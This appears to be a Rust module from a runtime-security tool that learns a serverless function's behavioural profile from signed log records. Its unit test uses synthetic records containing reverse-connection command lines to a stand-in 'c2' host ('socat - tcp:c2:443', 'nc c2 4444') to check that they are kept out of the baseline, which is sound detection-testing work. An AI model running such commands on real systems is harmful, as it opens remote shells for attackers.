//! One function's profile from what its log group holds: the records its Warden signed and
//! the invocations its findings named, promoted by the rule of docs/fleet-learning.md.

use std::collections::BTreeSet;

use warden_core::detect::baseline::WARMUP;
use warden_core::fleet::object::ProfileContent;
use warden_learn::cloudwatch_logs::LogRecords;
use warden_learn::dataset::{self, Promotion};
use warden_learn::policy;

/// What one run learned of a function.
#[derive(Debug, Clone, PartialEq)]
pub(crate) enum Learned {
    /// A profile worth writing.
    Profile(Box<ProfileContent>),
    /// Too little yet: the function's environments keep learning on their own.
    Learning {
        /// Clean invocations read.
        invocations: u64,
        /// Environments they came from.
        environments: u64,
    },
}

/// The function's profile from `records` (read with the deployment's key), when its clean
/// invocations are enough to warm a baseline and come from at least `min_environments`
/// environments.
pub(crate) fn learn(
    function: &str,
    records: LogRecords,
    min_environments: usize,
    policy_mode: Option<policy::Mode>,
    now_unix_ms: u64,
) -> Learned {
    let rule = Promotion {
        min_environments,
        flagged: records.flagged,
    };
    // A genuine record of another function, printed into this group, is not this function's.
    let rows: Vec<_> = records
        .rows
        .into_iter()
        .filter(|r| r.function == function)
        .collect();
    let environments: BTreeSet<&str> = rows
        .iter()
        .filter(|r| rule.is_clean(r))
        .map(|r| r.scope.as_str())
        .collect();
    let environments = environments.len() as u64;
    let profile = dataset::profiles_with(&rows, &rule).remove(function);
    let invocations = profile.as_ref().map_or(0, |p| p.invocations);
    match profile {
        Some(profile)
            if invocations >= WARMUP as u64 && environments >= min_environments as u64 =>
        {
            let policy = policy_mode.map(|mode| policy::export(&profile, function, mode).text);
            Learned::Profile(Box::new(ProfileContent {
                function: function.to_string(),
                generated_unix_ms: now_unix_ms,
                environments,
                profile,
                policy,
            }))
        }
        _ => Learned::Learning {
            invocations,
            environments,
        },
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use std::collections::HashSet;
    use warden_core::features::N;
    use warden_core::testing::{process, record, with};
    use warden_learn::dataset::Row;

    fn row(env: &str, seq: u64, extra: Option<(&str, &str)>) -> Row {
        let mut r = with(record(seq), process(100, "/usr/bin/gzip", "gzip -c"));
        if let Some((exe, cmdline)) = extra {
            r = with(r, process(101, exe, cmdline));
        }
        r.function_name = "orders".into();
        r.request_id = Some(format!("{env}-{seq}"));
        Row {
            label: None,
            function: "orders".into(),
            scope: format!("orders/{env}"),
            seed: None,
            split: None,
            stage: None,
            seq,
            cold: seq == 1,
            raw: [0.0; N],
            record: Box::new(r),
        }
    }

    fn records(rows: Vec<Row>, flagged: &[&str]) -> LogRecords {
        LogRecords {
            rows,
            flagged: flagged
                .iter()
                .map(|s| s.to_string())
                .collect::<HashSet<_>>(),
            ..LogRecords::default()
        }
    }

    #[test]
    fn enough_clean_invocations_from_enough_environments_make_a_profile() {
        let mut rows = Vec::new();
        for env in ["a", "b"] {
            for seq in 1..=12 {
                // Every invocation in "a" also runs a program only that environment runs;
                // the one flagged invocation in "b" runs another.
                let extra = match (env, seq) {
                    ("a", _) => Some(("/usr/bin/socat", "socat - tcp:c2:443")),
                    ("b", 5) => Some(("/usr/bin/nc", "nc c2 4444")),
                    _ => None,
                };
                rows.push(row(env, seq, extra));
            }
        }
        let Learned::Profile(content) = learn(
            "orders",
            records(rows.clone(), &["b-5"]),
            2,
            Some(policy::Mode::Observe),
            7,
        ) else {
            panic!("no profile")
        };
        assert_eq!(content.function, "orders");
        assert_eq!((content.environments, content.profile.invocations), (2, 23));
        assert_eq!(content.profile.known_exes, ["/usr/bin/gzip"]);
        assert!(content.policy.unwrap().contains("\"mode\": \"observe\""));
        // Three environments asked for, two seen: still learning.
        assert_eq!(
            learn("orders", records(rows.clone(), &[]), 3, None, 7),
            Learned::Learning {
                invocations: 24,
                environments: 2
            }
        );
        // Another function's records in the group are not this one's.
        assert!(matches!(
            learn("billing", records(rows, &[]), 2, None, 7),
            Learned::Learning { invocations: 0, .. }
        ));
    }
}
